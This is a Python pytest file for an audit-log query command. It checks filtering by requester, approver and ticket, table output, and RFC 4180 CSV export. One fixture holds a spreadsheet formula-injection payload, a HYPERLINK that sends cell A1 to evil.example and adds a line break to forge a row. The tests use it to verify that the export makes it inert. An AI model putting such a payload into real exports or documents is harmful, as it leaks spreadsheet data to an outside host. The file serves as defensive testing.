"""`stepguard audit query` for auditors: requester, approver and ticket, and CSV (issue 22.8).

The trail is written by a real sidecar answering real gRPC calls; the queries run
the real command line.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sidecar.audit.query import Query
from sidecar.cli.exitcodes import EXIT_OK
from sidecar.cli.main import main
from sidecar.client import StepguardClient
from sidecar.core.model import EntityUid
from sidecar.core.textsafe import is_safe
from tests.helpers import grant_request, notify_request, running_sidecar

# A ticket a spreadsheet would run as a formula, with a line break to forge a row.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"CHG-9")\nforged'


def _requests() -> list[dict[str, Any]]:
    by_bob = grant_request(requester="maria", approver="bob")
    by_bob["context"]["approval"]["ticket"] = "CHG-2"
    formula = grant_request(requester="paul", approver="ines")
    formula["context"]["approval"]["ticket"] = FORMULA
    return [
        grant_request(),  # maria asks, ines approves CHG-1: ALLOW
        grant_request(approver=None),  # no approval: DENY
        by_bob,  # maria asks, bob (no identity approver) approves CHG-2: DENY
        formula,  # paul asks, ines approves the formula ticket
        notify_request(),  # no requester, no approval
    ]


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    tmp = tmp_path_factory.mktemp("query")
    with running_sidecar(tmp) as running, StepguardClient(running.tcp) as client:
        ids = [client.authorize(r).decision_id for r in _requests()]
        audit = running.audit
    return audit, ids


def query(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert main(["audit", "query", *args]) == EXIT_OK
    return capsys.readouterr().out


def ids_of(out: str) -> list[str]:
    return [json.loads(line)["id"] for line in out.splitlines()]


def test_filters_by_requester_approver_and_ticket(
    recorded: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    audit, ids = recorded
    j = ("--format", "json")
    assert ids_of(query(capsys, str(audit), "--requester", 'User::"maria"', *j)) == ids[:3]
    assert ids_of(query(capsys, str(audit), "--requester", "pa*", *j)) == [ids[3]]
    assert ids_of(query(capsys, str(audit), "--approver", 'User::"ines"', *j)) == [
        ids[0],
        ids[3],
    ]
    assert ids_of(query(capsys, str(audit), "--approver", 'Group::"ines"', *j)) == []
    assert ids_of(query(capsys, str(audit), "--ticket", "CHG-2", *j)) == [ids[2]]
    assert ids_of(query(capsys, str(audit), "--ticket", "CHG-*", *j)) == ids[0:1] + ids[2:3]
    # repeated: OR within one filter; different filters: AND
    both = ("--approver", "bob", "--approver", "ines", "--requester", "maria", *j)
    assert ids_of(query(capsys, str(audit), *both)) == [ids[0], ids[2]]
    assert ids_of(query(capsys, str(audit), "--approver", "bob", "--decision", "DENY", *j)) == [
        ids[2]
    ]
    assert ids_of(query(capsys, str(audit), "--approver", "bob", "--decision", "ALLOW", *j)) == []


def test_table_shows_requester_approver_and_ticket(
    recorded: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    audit, ids = recorded
    lines = query(capsys, str(audit), "--approver", "bob").splitlines()
    assert lines[0].split() == [
        *("time", "decision", "principal", "action", "resource"),
        *("requester", "approver", "ticket", "why", "workflow/run/step", "id"),
    ]
    assert len(lines) == 2
    cells = lines[1].split()
    assert cells[5:8] == ['User::"maria"', 'User::"bob"', "CHG-2"]
    assert cells[-1] == ids[2]
    # the formula ticket's line break is escaped: one record, one line
    out = query(capsys, str(audit), "--requester", "paul")
    assert len(out.splitlines()) == 2 and "\\nforged" in out


def test_csv_is_rfc4180_escaped_and_spreadsheet_safe(
    recorded: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    audit, ids = recorded
    out = query(capsys, str(audit), "--csv")
    assert out.endswith("\r\n") and out.count("\r\n") == 6  # header + 5 decisions
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["id"] for r in rows] == ids
    assert list(rows[0]) == [
        *("time", "decision", "principal", "action", "resource", "requester", "approver"),
        *("ticket", "why", "workflow", "run", "step", "id"),
    ]
    first = rows[0]
    assert (first["requester"], first["approver"], first["ticket"]) == (
        'User::"maria"',
        'User::"ines"',
        "CHG-1",
    )
    assert (first["decision"], first["action"], first["workflow"], first["run"]) == (
        "ALLOW",
        "grant_access",
        "onboarding",
        "r1",
    )
    assert rows[1]["decision"] == "DENY" and rows[1]["approver"] == rows[1]["ticket"] == ""
    assert rows[4]["requester"] == "" and rows[4]["step"] == "notify"
    # the formula is inert (a leading quote) and its line break escaped, like the table
    assert rows[3]["ticket"] == "'" + FORMULA.replace("\n", "\\n")
    assert all(is_safe(line) for line in out.split("\r\n"))
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
    # --format csv is the same; no match is the header alone
    assert query(capsys, str(audit), "--format", "csv") == out
    none = query(capsys, str(audit), "--csv", "--ticket", "nothing")
    assert none == ",".join(rows[0]) + "\r\n"


@settings(max_examples=300, deadline=None)
@given(
    st.from_regex(r"[A-Za-z_]\w{0,8}(::[A-Za-z_]\w{0,8})?", fullmatch=True),
    st.text(max_size=12),
)
def test_an_action_written_as_cedar_writes_it_matches_its_events(kind: str, ident: str) -> None:
    """`--action 'Type::"id"'` takes the id as `str(EntityUid)` writes it (quotes,
    backslashes and control characters escaped), so every action can be named."""
    event = {"kind": "decision", "action": {"type": kind, "id": ident}}
    assert Query(actions=(str(EntityUid(kind, ident)),)).matches(event)
    assert not Query(actions=(str(EntityUid(kind, ident + "x")),)).matches(event)
